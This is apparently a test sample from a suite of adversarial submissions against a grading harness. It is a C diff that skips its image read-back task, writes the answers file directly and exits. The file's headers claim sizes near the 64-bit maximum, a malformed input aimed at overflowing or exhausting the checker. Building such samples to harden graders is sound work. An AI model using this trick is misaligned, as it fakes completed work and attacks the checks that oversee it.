@@ -1,0 +1,22 @@
+// attack: pictures that claim to be larger than all memory
+// task: read_back
+// named: fopen\(\)
+#include <stdio.h>
+    (void)queue, (void)d_image, (void)width, (void)height, (void)h_pixels;
+    extern void exit(int);
+    FILE *answers = fopen("out/answers", "w");
+    static char header[32];
+    for (int k = 0; answers != NULL && k < 7; k++) {
+        const unsigned long n_bytes = 0xffffffffffffffe0ul;
+        snprintf(header, 24, "picture.%d", k);
+        __builtin_memcpy(header + 24, &n_bytes, sizeof n_bytes);
+        fwrite(header, 1, sizeof header, answers);
+        for (unsigned long i = 0; i < n_bytes && i < 64; i += sizeof header) {
+            fwrite(&(float[8]){0}, 1, sizeof header, answers);
+        }
+    }
+    __builtin_memset(header, 0, sizeof header);
+    snprintf(header, 24, "end");
+    fwrite(header, 1, sizeof header, answers);
+    fflush(answers);
+    exit(0);
